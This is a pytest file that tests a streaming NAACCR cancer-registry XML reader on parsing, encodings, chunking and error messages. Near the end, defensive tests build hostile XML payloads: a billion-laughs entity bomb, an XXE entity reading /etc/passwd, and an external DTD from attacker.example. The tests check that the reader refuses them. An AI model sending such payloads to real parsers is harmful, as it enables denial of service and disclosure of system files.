"""Tests of the streaming NAACCR XML reader (pipelines/readers/xml.py) on small files built in tmp_path."""

from __future__ import annotations

import gzip
import re
import time
from pathlib import Path

import pytest

from pipelines.readers.xml import NaaccrXmlReader
from pipelines.records import PATIENT, TUMOR
from registry.errors import SourceFileError
from registry.naaccr import Dictionary
from registry.user_dictionary import parse_user_dictionary

NS = "http://naaccr.org/naaccrxml"
DECL = '<?xml version="1.0" encoding="UTF-8"?>\n'
SPECS = ["1.0", "1.1", "1.2", "1.3", "1.4", "1.5", "1.6", "1.7", "1.8"]
NAACCR_TAG = re.compile(r"<(/?)(NaaccrData|Patient|Tumor|Item)\b")

BODY = """\
  <Item naaccrId="registryId">0000001234</Item>
  <Patient>
    <Item naaccrId="patientIdNumber" naaccrNum="20">00000001</Item>
    <Item naaccrId="sex">2</Item>
    <Tumor>
      <Item naaccrId="primarySite" naaccrNum="400">C509</Item>
    </Tumor>
    <Tumor>
      <Item naaccrId="primarySite">C180</Item>
    </Tumor>
  </Patient>
  <Patient>
    <Item naaccrId="patientIdNumber">00000002</Item>
  </Patient>
"""


def base_uri(version: str) -> str:
    return f"http://naaccr.org/naaccrxml/naaccr-dictionary-{version}.xml"


def document(body: str = BODY, *, version: str = "250", spec: str | None = "1.8", record_type: str = "I",
             prefix: str | None = None, namespace: str | None = NS, attrs: str = "", decl: str = DECL) -> str:
    """A NAACCR XML document; NaaccrData is on line 2 and ``body`` starts on line 3."""
    root_attrs = f'baseDictionaryUri="{base_uri(version)}" recordType="{record_type}"'
    if spec is not None:
        root_attrs += f' specificationVersion="{spec}"'
    if namespace is not None:
        root_attrs += f' xmlns:{prefix}="{namespace}"' if prefix else f' xmlns="{namespace}"'
    if attrs:
        root_attrs += " " + attrs
    text = f"{decl}<NaaccrData {root_attrs}>\n{body}</NaaccrData>\n"
    if prefix:
        text = NAACCR_TAG.sub(rf"<\1{prefix}:\2", text)
    return text


def write(tmp_path: Path, content: str | bytes, name: str = "data.xml") -> Path:
    path = tmp_path / name
    data = content.encode("utf-8") if isinstance(content, str) else content
    if name.endswith(".gz"):
        data = gzip.compress(data)
    path.write_bytes(data)
    return path


def read_all(path: Path, **kwargs: object) -> tuple[NaaccrXmlReader, list[dict], list[dict], list[dict]]:
    """Run the reader to the end; the entities, items and issues of all chunks, in order."""
    reader = NaaccrXmlReader(path, **kwargs)  # type: ignore[arg-type]
    entities: list[dict] = []
    items: list[dict] = []
    issues: list[dict] = []
    for chunk in reader.chunks():
        entities += chunk.entities.to_pylist()
        items += chunk.items.to_pylist()
        issues += chunk.issues.to_pylist()
    return reader, entities, items, issues


def values(items: list[dict]) -> list[tuple[int, int, int, str, str]]:
    return [(i["level"], i["patient_seq"], i["tumor_seq"], i["naaccr_id"], i["value"]) for i in items]


EXPECTED_BODY_ITEMS = [
    (PATIENT, 1, 0, "patientIdNumber", "00000001"),
    (PATIENT, 1, 0, "sex", "2"),
    (TUMOR, 1, 1, "primarySite", "C509"),
    (TUMOR, 1, 2, "primarySite", "C180"),
    (PATIENT, 2, 0, "patientIdNumber", "00000002"),
]


# --- valid files -------------------------------------------------------------------------------------------

@pytest.mark.parametrize("prefix", [None, "naaccr"], ids=["default-ns", "prefixed-ns"])
@pytest.mark.parametrize("spec", SPECS)
def test_every_specification_version_and_namespace_form(tmp_path: Path, spec: str, prefix: str | None) -> None:
    reader, entities, items, issues = read_all(write(tmp_path, document(spec=spec, prefix=prefix)))
    src = reader.source
    assert (src.format, src.naaccr_version, src.record_type, src.specification_version) == \
        ("naaccr-xml", "250", "I", spec)
    assert src.warnings == []
    assert src.root_items == {"registryId": "0000001234"}
    assert [(e["kind"], e["patient_seq"], e["tumor_seq"], e["line"], e["raw"]) for e in entities] == [
        (PATIENT, 1, 0, 4, None), (TUMOR, 1, 1, 7, None), (TUMOR, 1, 2, 10, None), (PATIENT, 2, 0, 14, None)]
    assert values(items) == EXPECTED_BODY_ITEMS
    assert [i["line"] for i in items] == [5, 6, 8, 11, 15]
    assert [i["naaccr_num"] for i in items] == [20, None, 400, None, None]
    assert issues == []


def test_missing_specification_version_defaults_to_1_0(tmp_path: Path) -> None:
    reader, *_ = read_all(write(tmp_path, document(spec=None)))
    assert reader.source.specification_version == "1.0"


@pytest.mark.parametrize("spec", [None, "1.0", "1.1", "1.2", "1.5", "1.8"])
def test_file_without_namespace_is_read_with_warning(tmp_path: Path, spec: str | None) -> None:
    """Any specification version: read as the reference reader's relaxed namespace mode reads it, every item as
    usual, with one file warning (its default strict mode would refuse the file)."""
    reader, _, items, _ = read_all(write(tmp_path, document(spec=spec, namespace=None)))
    assert values(items) == EXPECTED_BODY_ITEMS
    assert reader.source.root_items == {"registryId": "0000001234"}
    assert len(reader.source.warnings) == 1 and "no namespace" in reader.source.warnings[0]
    assert "relaxed namespace rules" in reader.source.warnings[0]


@pytest.mark.parametrize("version, user_uris, expected_record_type", [
    ("180", "http://naaccr.org/naaccrxml/user-defined-naaccr-dictionary-180.xml", "A"),
    ("210", "http://naaccr.org/naaccrxml/user-defined-naaccr-dictionary-210.xml", "A"),
    ("220", "", "M"),
    ("230", "", "C"),
    ("240", "", "I"),
    ("250", "", "A"),
    ("260", "", "I"),
])
def test_naaccr_version_headers(tmp_path: Path, version: str, user_uris: str, expected_record_type: str) -> None:
    attrs = 'timeGenerated="2020-07-31T12:17:58.9115847-04:00"'
    if user_uris:
        attrs += f' userDictionaryUri="{user_uris}"'
    spec = "1.4" if version in ("180", "210") else "1.7"
    path = write(tmp_path, document(version=version, spec=spec, record_type=expected_record_type, attrs=attrs))
    reader, _, items, _ = read_all(path)
    src = reader.source
    assert (src.naaccr_version, src.dictionary.version, src.record_type) == \
        (version, version, expected_record_type)
    assert src.warnings == []
    assert src.root_attributes["baseDictionaryUri"] == base_uri(version)
    assert src.root_attributes["timeGenerated"] == "2020-07-31T12:17:58.9115847-04:00"
    assert len(items) == 5


def test_v18_header_with_default_user_dictionary(tmp_path: Path) -> None:
    text = (
        '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
        '<NaaccrData baseDictionaryUri="http://naaccr.org/naaccrxml/naaccr-dictionary-180.xml"\n'
        '            userDictionaryUri="http://naaccr.org/naaccrxml/user-defined-naaccr-dictionary-180.xml"\n'
        '            recordType="A" timeGenerated="2019-03-01T10:00:00" specificationVersion="1.3"\n'
        '            xmlns="http://naaccr.org/naaccrxml">\n'
        '  <Item naaccrId="naaccrRecordVersion">180</Item>\n'
        '  <Patient><Tumor><Item naaccrId="dateOfDiagnosis">2018</Item></Tumor></Patient>\n'
        '</NaaccrData>\n')
    reader, entities, items, _ = read_all(write(tmp_path, text))
    src = reader.source
    assert src.naaccr_version == "180" and src.specification_version == "1.3"
    assert "npcrSpecificField" in src.dictionary.items  # from the default user dictionary
    assert src.root_items == {"naaccrRecordVersion": "180"}
    assert values(items) == [(TUMOR, 1, 1, "dateOfDiagnosis", "2018")]
    assert [e["line"] for e in entities] == [7, 7]


def test_extension_elements_are_skipped_and_counted(tmp_path: Path) -> None:
    body = """\
  <Item naaccrId="registryId">0000001234</Item>
  <ext:Header><ext:Note>hello</ext:Note></ext:Header>
  <Patient>
    <Item naaccrId="patientIdNumber">00000001</Item>
    <ext:PatientExtra><Item naaccrId="notReally">x</Item><Tumor/></ext:PatientExtra>
    <Tumor>
      <Item naaccrId="primarySite">C509</Item>
      <other:Deep xmlns:other="http://other.example"><other:Deeper>1</other:Deeper></other:Deep>
    </Tumor>
  </Patient>
  <ext:Trailer/>
"""
    path = write(tmp_path, document(body, attrs='xmlns:ext="http://ext.example" ext:source="abc"'))
    reader, entities, items, _ = read_all(path)
    assert reader.source.extensions_skipped == 4
    assert len(entities) == 2
    assert values(items) == [(PATIENT, 1, 0, "patientIdNumber", "00000001"), (TUMOR, 1, 1, "primarySite", "C509")]
    assert reader.source.root_attributes["{http://ext.example}source"] == "abc"


def test_naaccr_named_elements_inside_extensions_are_skipped(tmp_path: Path) -> None:
    body = """\
  <ext:Wrap><Patient><Tumor><Item naaccrId="primarySite">C000</Item></Tumor></Patient></ext:Wrap>
  <ext:Patient><Item naaccrId="patientIdNumber">99999999</Item></ext:Patient>
  <Patient>
    <ext:Tumor/>
    <Tumor><Item naaccrId="primarySite">C509</Item><ext:NaaccrData/></Tumor>
    <Item naaccrId="vitalStatus">1</Item>
  </Patient>
"""
    path = write(tmp_path, document(body, attrs='xmlns:ext="http://ext.example"'))
    reader, entities, items, _ = read_all(path)
    assert reader.source.extensions_skipped == 4
    assert [(e["kind"], e["patient_seq"], e["tumor_seq"], e["line"]) for e in entities] == [
        (PATIENT, 1, 0, 5), (TUMOR, 1, 1, 7)]
    # an item after the tumors (tolerated order) is still read
    assert values(items) == [(TUMOR, 1, 1, "primarySite", "C509"), (PATIENT, 1, 0, "vitalStatus", "1")]


def test_large_file_with_root_items_between_patients(tmp_path: Path) -> None:
    # Big enough that lxml parses ahead of the events it reports, across many read() calls.
    parts = []
    for n in range(1, 2001):
        parts.append(f'  <Patient><Item naaccrId="patientIdNumber">{n:08d}</Item>'
                     f'<Tumor><Item naaccrId="primarySite">C{n % 1000:03d}</Item></Tumor></Patient>\n')
        if n % 500 == 0:
            parts.append(f'  <Item naaccrId="rootItem{n}">{n}</Item><ext:Mark n="{n}"/>\n')
    path = write(tmp_path, document("".join(parts), attrs='xmlns:ext="http://ext.example"'))
    assert path.stat().st_size > 200_000
    reader, entities, items, _ = read_all(path, chunk_items=100)
    assert len(entities) == 4000 and len(items) == 4000
    assert [i["value"] for i in items if i["naaccr_id"] == "patientIdNumber"] == \
        [f"{n:08d}" for n in range(1, 2001)]
    assert [i["line"] for i in items[-2:]] == [2005, 2005]
    assert reader.source.root_items == {f"rootItem{n}": str(n) for n in (500, 1000, 1500, 2000)}
    assert reader.source.extensions_skipped == 4


def user_dictionary(tmp_path: Path, name: str, uri: str, items: list[tuple[str, int, str]]) -> Dictionary:
    defs = "\n".join(
        f'    <ItemDef naaccrId="{nid}" naaccrNum="{num}" naaccrName="{nid}" parentXmlElement="{level}" '
        f'length="10" dataType="text"/>' for nid, num, level in items)
    path = tmp_path / name
    path.write_text(
        f'<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<NaaccrDictionary dictionaryUri="{uri}" naaccrVersion="250" specificationVersion="1.8" '
        f'xmlns="{NS}">\n  <ItemDefs>\n{defs}\n  </ItemDefs>\n</NaaccrDictionary>\n', encoding="utf-8")
    return parse_user_dictionary(path)


def test_multiple_user_dictionaries(tmp_path: Path) -> None:
    first = user_dictionary(tmp_path, "a.xml", "http://registry.example/a.xml",
                            [("myPatientFlag", 10001, "Patient"), ("myTumorCode", 10002, "Tumor")])
    second = user_dictionary(tmp_path, "b.xml", "http://registry.example/b.xml", [("myOther", 10003, "Tumor")])
    unused = user_dictionary(tmp_path, "c.xml", "http://registry.example/c.xml", [("notDeclared", 10004, "Tumor")])
    declared = "http://registry.example/a.xml http://registry.example/b.xml"
    body = """\
  <Patient>
    <Item naaccrId="myPatientFlag">Y</Item>
    <Tumor><Item naaccrId="myTumorCode">AB</Item><Item naaccrId="myOther">7</Item></Tumor>
  </Patient>
"""
    path = write(tmp_path, document(body, attrs=f'userDictionaryUri="{declared}"'))
    reader, _, items, _ = read_all(path, user_dictionaries=[unused, second, first])
    dictionary = reader.source.dictionary
    assert {"myPatientFlag", "myTumorCode", "myOther"} <= dictionary.items.keys()
    assert "notDeclared" not in dictionary.items
    assert "http://registry.example/a.xml" in dictionary.uris and "http://registry.example/b.xml" in dictionary.uris
    assert reader.source.warnings == []
    assert [i["naaccr_id"] for i in items] == ["myPatientFlag", "myTumorCode", "myOther"]


def test_a_declared_user_dictionary_that_was_not_supplied_refuses_the_file(tmp_path: Path) -> None:
    path = write(tmp_path, document(attrs='userDictionaryUri="http://registry.example/missing.xml"'))
    with pytest.raises(SourceFileError, match="declares user dictionary http://registry.example/missing.xml, "
                                              "which was not supplied"):
        read_all(path)


@pytest.mark.parametrize("xml_value, expected", [
    ("Smith &amp; Sons", "Smith & Sons"),
    ("a &lt; b &gt; c &quot;q&quot; &apos;s&apos;", "a < b > c \"q\" 's'"),
    ("<![CDATA[x < y & z]]>", "x < y & z"),
    ("mixed &amp; <![CDATA[<tag>]]> end", "mixed & <tag> end"),
    ("&#233;t&#xE9;", "été"),
    ("  leading and  inner  spaces ", "  leading and  inner  spaces "),
    ("first line\n  second line\r\nthird\rfourth", "first line\n  second line\nthird\nfourth"),
    ("naïve Zürich 東京", "naïve Zürich 東京"),
])
def test_text_values_are_decoded_and_kept(tmp_path: Path, xml_value: str, expected: str) -> None:
    body = f'  <Patient><Tumor><Item naaccrId="textRemarks">{xml_value}</Item></Tumor></Patient>\n'
    _, _, items, _ = read_all(write(tmp_path, document(body)))
    assert [i["value"] for i in items] == [expected]


def test_multi_line_item_line_is_its_start(tmp_path: Path) -> None:
    body = ('  <Patient>\n    <Tumor>\n      <Item naaccrId="textDxProcPe">line one\nline two\nline three</Item>\n'
            '      <Item naaccrId="primarySite">C619</Item>\n    </Tumor>\n  </Patient>\n')
    _, _, items, _ = read_all(write(tmp_path, document(body)))
    assert [(i["value"], i["line"]) for i in items] == [("line one\nline two\nline three", 5), ("C619", 8)]


def test_empty_items_are_skipped(tmp_path: Path) -> None:
    body = """\
  <Item naaccrId="registryId"></Item>
  <Patient>
    <Item naaccrId="nameLast"/>
    <Item naaccrId="nameFirst"></Item>
    <Item naaccrId="nameMiddle">   </Item>
    <Item naaccrId="patientIdNumber">00000009</Item>
  </Patient>
"""
    reader, _, items, _ = read_all(write(tmp_path, document(body)))
    assert values(items) == [(PATIENT, 1, 0, "patientIdNumber", "00000009")]
    assert reader.source.root_items == {}


def test_patients_without_tumors_and_sequence_numbers(tmp_path: Path) -> None:
    body = ("  <Patient/>\n"
            "  <Patient><Tumor/><Tumor/></Patient>\n"
            "  <Patient></Patient>\n"
            "  <Patient><Tumor/></Patient>\n"
            '  <Item naaccrId="registryType">1</Item>\n')
    reader, entities, items, _ = read_all(write(tmp_path, document(body)))
    assert [(e["kind"], e["patient_seq"], e["tumor_seq"], e["line"]) for e in entities] == [
        (PATIENT, 1, 0, 3), (PATIENT, 2, 0, 4), (TUMOR, 2, 1, 4), (TUMOR, 2, 2, 4),
        (PATIENT, 3, 0, 5), (PATIENT, 4, 0, 6), (TUMOR, 4, 3, 6)]
    assert items == []
    assert reader.source.root_items == {"registryType": "1"}  # a root item after the patients is fine


@pytest.mark.parametrize("body", ["", "  \n"], ids=["no-patients", "blank"])
def test_file_without_patients_yields_one_empty_chunk(tmp_path: Path, body: str) -> None:
    reader = NaaccrXmlReader(write(tmp_path, document(body)))
    chunks = list(reader.chunks())
    assert len(chunks) == 1 and chunks[0].entities.num_rows == 0 and chunks[0].items.num_rows == 0
    assert reader.source.naaccr_version == "250"


def test_gzip_file(tmp_path: Path) -> None:
    reader, entities, items, _ = read_all(write(tmp_path, document(), name="data.xml.gz"))
    assert values(items) == EXPECTED_BODY_ITEMS and len(entities) == 4
    assert reader.source.root_items == {"registryId": "0000001234"}


def test_utf8_bom_and_utf16(tmp_path: Path) -> None:
    text = document(decl='<?xml version="1.0" encoding="UTF-8"?>\n')
    _, _, items, _ = read_all(write(tmp_path, b"\xef\xbb\xbf" + text.encode("utf-8"), name="bom.xml"))
    assert values(items) == EXPECTED_BODY_ITEMS
    utf16 = document(decl='<?xml version="1.0" encoding="UTF-16"?>\n').encode("utf-16")
    _, _, items, _ = read_all(write(tmp_path, utf16, name="utf16.xml"))
    assert values(items) == EXPECTED_BODY_ITEMS


def test_cp1252_declared_file_decodes(tmp_path: Path) -> None:
    body = '  <Patient><Item naaccrId="nameLast">Renée € “q”</Item></Patient>\n'
    data = document(body, decl='<?xml version="1.0" encoding="Cp1252"?>\n').encode("cp1252")
    assert b"Ren\xe9e \x80 \x93q\x94" in data
    _, _, items, _ = read_all(write(tmp_path, data))
    assert [i["value"] for i in items] == ["Renée € “q”"]


def test_chunks_break_only_between_patients(tmp_path: Path) -> None:
    patients = "".join(
        f'  <Patient><Item naaccrId="patientIdNumber">{n:08d}</Item>'
        f'<Tumor><Item naaccrId="primarySite">C50{n % 10}</Item></Tumor>'
        f'<Tumor><Item naaccrId="primarySite">C18{n % 10}</Item></Tumor></Patient>\n' for n in range(1, 101))
    reader = NaaccrXmlReader(write(tmp_path, document(patients)), chunk_items=20)
    chunks = list(reader.chunks())
    assert len(chunks) > 5
    seen = set()
    for chunk in chunks:
        patient_seqs = set(chunk.entities.column("patient_seq").to_pylist())
        assert patient_seqs.isdisjoint(seen)  # every entity of a patient is in one chunk
        assert set(chunk.items.column("patient_seq").to_pylist()) <= patient_seqs
        seen |= patient_seqs
    assert seen == set(range(1, 101))
    assert sum(c.items.num_rows for c in chunks) == 300
    assert sum(c.entities.num_rows for c in chunks) == 300


def test_bad_naaccr_num_is_a_reject_issue(tmp_path: Path) -> None:
    body = '  <Patient><Tumor><Item naaccrId="primarySite" naaccrNum="four">C509</Item></Tumor></Patient>\n'
    _, _, items, issues = read_all(write(tmp_path, document(body)))
    assert [(i["naaccr_id"], i["naaccr_num"]) for i in items] == [("primarySite", None)]
    assert [(i["severity"], i["patient_seq"], i["tumor_seq"], i["line"], i["naaccr_id"]) for i in issues] == [
        ("reject", 1, 1, 3, "primarySite")]


def test_control_characters_are_removed_with_one_warning(tmp_path: Path) -> None:
    body = ('  <Patient>\n'
            '    <Item naaccrId="nameLast">Sm\x07ith</Item>\n'
            '    <Item naaccrId="nameFirst">J\x01o\x1fe\x0b</Item>\n'
            '    <Tumor><Item naaccrId="textRemarks">tab\there</Item></Tumor>\n'
            '  </Patient>\n')
    reader, _, items, _ = read_all(write(tmp_path, document(body)))
    assert [i["value"] for i in items] == ["Smith", "Joe", "tab\there"]
    assert [i["line"] for i in items] == [4, 5, 6]
    assert len(reader.source.warnings) == 1
    warning = reader.source.warnings[0]
    assert "4 control character" in warning and "line 4" in warning


def test_control_characters_in_gzip_past_first_block(tmp_path: Path) -> None:
    filler = "".join(f'  <Patient><Item naaccrId="patientIdNumber">{n:08d}</Item></Patient>\n'
                     for n in range(3000))
    body = filler + '  <Patient><Item naaccrId="nameLast">A\x00B</Item></Patient>\n'
    reader, _, items, _ = read_all(write(tmp_path, document(body), name="ctrl.xml.gz"))
    assert items[-1]["value"] == "AB"
    assert reader.source.warnings == ["1 control character(s) illegal in XML were removed (first on line 3003)"]


# --- invalid files -----------------------------------------------------------------------------------------

BAD_ROOT = f'{DECL}<NaaccrDocument baseDictionaryUri="{base_uri("250")}" recordType="I" xmlns="{NS}"/>\n'
WRONG_NS = document(namespace="http://example.org/not-naaccr")
WRONG_PREFIX_NS = document(prefix="n", namespace="http://example.org/not-naaccr")
MISSING_BASE = f'{DECL}<NaaccrData recordType="I" specificationVersion="1.8" xmlns="{NS}">\n</NaaccrData>\n'
UNKNOWN_VERSION = document(version="170")
NOT_A_URI = document().replace(base_uri("250"), "http://example.org/dictionary.xml")
MISSING_RECORD_TYPE = document().replace(' recordType="I"', "")
BAD_RECORD_TYPE = document(record_type="X")
BAD_SPEC = document(spec="2.0")
TRUNCATED = document()[:document().index("<Item naaccrId=\"primarySite\">C180")]
TRUNCATED_MID_TAG = document()[:document().index("</Patient>") + 5]
MISPLACED_TUMOR = document('  <Patient/>\n  <Tumor><Item naaccrId="primarySite">C509</Item></Tumor>\n')
PATIENT_IN_TUMOR = document('  <Patient>\n    <Tumor>\n      <Patient/>\n    </Tumor>\n  </Patient>\n')
PATIENT_IN_PATIENT = document('  <Patient>\n    <Patient/>\n  </Patient>\n')
ITEM_IN_ITEM = document('  <Patient>\n    <Item naaccrId="a"><Item naaccrId="b">1</Item></Item>\n  </Patient>\n')
EXTENSION_IN_ITEM = document('  <Patient>\n    <Item naaccrId="a">1<x:y xmlns:x="http://x"/></Item>\n  </Patient>\n')
MISSPELLED = document('  <Patient>\n    <Tumour/>\n  </Patient>\n')
NESTED_ROOT = document('  <NaaccrData/>\n')
NO_NAACCR_ID = document('  <Patient>\n    <Item>1</Item>\n  </Patient>\n')
UNPREFIXED_IN_PREFIXED = document(prefix="n").replace("<n:Tumor>", "<Tumor>", 1).replace("</n:Tumor>", "</Tumor>", 1)
PATIENT_IN_ITEM = document('  <Patient>\n    <Item naaccrId="a"><Patient/></Item>\n  </Patient>\n')
TUMOR_IN_TUMOR = document('  <Patient>\n    <Tumor>\n      <Tumor/>\n    </Tumor>\n  </Patient>\n')
ROOT_ITEM_IN_ITEM = document('  <Item naaccrId="a"><Item naaccrId="b">1</Item></Item>\n')
EXTRA_CONTENT = document() + "<Patient/>\n"
MISMATCHED_TAG = document('  <Patient>\n    <Tumor>\n  </Patient>\n')
UNDEFINED_ENTITY = document('  <Patient>\n    <Item naaccrId="a">&nbsp;</Item>\n  </Patient>\n')
INVALID_UTF8 = document('  <Patient>\n    <Item naaccrId="nameLast">Ren\udce9e</Item>\n  </Patient>\n')


@pytest.mark.parametrize("content, line, phrase", [
    (BAD_ROOT, 2, "root element is <NaaccrDocument>"),
    (WRONG_NS, 2, "namespace 'http://example.org/not-naaccr'"),
    (WRONG_PREFIX_NS, 2, "namespace 'http://example.org/not-naaccr'"),
    (MISSING_BASE, 2, "no baseDictionaryUri"),
    (UNKNOWN_VERSION, 2, "unsupported NAACCR version 170"),
    (NOT_A_URI, 2, "not a NAACCR base dictionary URI"),
    (MISSING_RECORD_TYPE, 2, "no recordType"),
    (BAD_RECORD_TYPE, 2, "invalid recordType 'X'"),
    (BAD_SPEC, 2, "unsupported specificationVersion '2.0'"),
    (TRUNCATED, 11, "file ends before </Tumor> closes (truncated?)"),
    (TRUNCATED_MID_TAG, 13, "file ends before </Patient> closes (truncated?)"),
    (MISPLACED_TUMOR, 4, "<Tumor> is not allowed inside <NaaccrData>"),
    (PATIENT_IN_TUMOR, 5, "<Patient> is not allowed inside <Tumor>"),
    (PATIENT_IN_PATIENT, 4, "<Patient> is not allowed inside <Patient>"),
    (ITEM_IN_ITEM, 4, "<Item> is not allowed inside <Item>"),
    (EXTENSION_IN_ITEM, 4, "<y> is not allowed inside <Item>"),
    (MISSPELLED, 4, "unknown element <Tumour> inside <Patient>"),
    (NESTED_ROOT, 3, "unknown element <NaaccrData> inside <NaaccrData>"),
    (NO_NAACCR_ID, 4, "without naaccrId"),
    (UNPREFIXED_IN_PREFIXED, 7, "<Tumor> inside <Patient> has no namespace"),
    (PATIENT_IN_ITEM, 4, "<Patient> is not allowed inside <Item>"),
    (TUMOR_IN_TUMOR, 5, "<Tumor> is not allowed inside <Tumor>"),
    (ROOT_ITEM_IN_ITEM, 3, "<Item> is not allowed inside <Item>"),
    (EXTRA_CONTENT, 18, "Extra content at the end of the document"),
    (MISMATCHED_TAG, 5, "not well-formed XML"),
    (UNDEFINED_ENTITY, 4, "Entity 'nbsp' not defined"),
], ids=lambda v: v if isinstance(v, str) and len(v) < 40 else None)
def test_invalid_files(tmp_path: Path, content: str, line: int, phrase: str) -> None:
    path = write(tmp_path, content, name="bad-file.xml")
    with pytest.raises(SourceFileError) as info:
        read_all(path)
    message = str(info.value)
    assert "bad-file.xml" in message
    assert f"line {line}:" in message
    assert phrase in message
    assert info.value.line == line


def test_invalid_utf8_bytes(tmp_path: Path) -> None:
    data = INVALID_UTF8.encode("utf-8", errors="surrogateescape")
    path = write(tmp_path, data, name="latin.xml")
    with pytest.raises(SourceFileError, match=r"latin\.xml, line 4: invalid bytes for the file's declared encoding"):
        read_all(path)


@pytest.mark.parametrize("content", [b"", b"   \n", b'<?xml version="1.0"?>\n'], ids=["empty", "blank", "decl-only"])
def test_empty_file(tmp_path: Path, content: bytes) -> None:
    with pytest.raises(SourceFileError, match=r"empty\.xml"):
        read_all(write(tmp_path, content, name="empty.xml"))


def test_truncated_gzip(tmp_path: Path) -> None:
    path = tmp_path / "cut.xml.gz"
    path.write_bytes(gzip.compress(document().encode() * 50)[:300])
    with pytest.raises(SourceFileError, match=r"cut\.xml\.gz"):
        read_all(path)


BILLION_LAUGHS = DECL + """<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
""" + document('  <Patient><Item naaccrId="nameLast">&lol9;</Item></Patient>\n', decl="")
EXTERNAL_ENTITY = DECL + '<!DOCTYPE NaaccrData [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n' + \
    document('  <Patient><Item naaccrId="nameLast">&xxe;</Item></Patient>\n', decl="")
EXTERNAL_DTD = DECL + '<!DOCTYPE NaaccrData SYSTEM "http://attacker.example/naaccr.dtd">\n' + document(decl="")
DOCTYPE_AFTER_COMMENT = DECL + "<!-- <NaaccrData> in a comment -->\n<?pi?>\n<!DOCTYPE x>\n" + document(decl="")
HIDDEN_BY_CONTROL_CHAR = DECL + "<!DOC\x01TYPE x [<!ENTITY a 'b'>]>\n" + document(decl="")
BARE_ENTITY = "<!ENTITY a 'b'>\n" + document(decl="")


@pytest.mark.parametrize("content, name, line", [
    (BILLION_LAUGHS, "lol.xml", 2),
    (BILLION_LAUGHS, "lol.xml.gz", 2),
    (EXTERNAL_ENTITY, "xxe.xml", 2),
    (EXTERNAL_DTD, "dtd.xml", 2),
    (DOCTYPE_AFTER_COMMENT, "comment.xml", 4),
    (HIDDEN_BY_CONTROL_CHAR, "hidden.xml", 2),
    (BARE_ENTITY, "entity.xml", 1),
])
def test_doctype_and_entities_are_refused_quickly(tmp_path: Path, content: str, name: str, line: int) -> None:
    path = write(tmp_path, content, name=name)
    started = time.perf_counter()
    with pytest.raises(SourceFileError, match="DOCTYPE/entity declarations are not allowed") as info:
        read_all(path)
    assert time.perf_counter() - started < 1.0
    assert name in str(info.value)
    assert info.value.line == line


def test_doctype_in_utf16_file_is_refused(tmp_path: Path) -> None:
    path = write(tmp_path, EXTERNAL_ENTITY.replace("UTF-8", "UTF-16").encode("utf-16"), name="xxe16.xml")
    with pytest.raises(SourceFileError, match="DOCTYPE/entity declarations are not allowed"):
        read_all(path)


def test_doctype_text_inside_a_comment_is_not_a_declaration(tmp_path: Path) -> None:
    text = DECL + "<!-- exported without <!DOCTYPE> -->\n" + document(decl="")
    _, _, items, _ = read_all(write(tmp_path, text))
    assert values(items) == EXPECTED_BODY_ITEMS


def test_source_is_set_once_chunks_start(tmp_path: Path) -> None:
    reader = NaaccrXmlReader(write(tmp_path, document()))
    chunks = reader.chunks()
    first = next(chunks)
    assert reader.source.path.name == "data.xml" and first.items.num_rows == 5
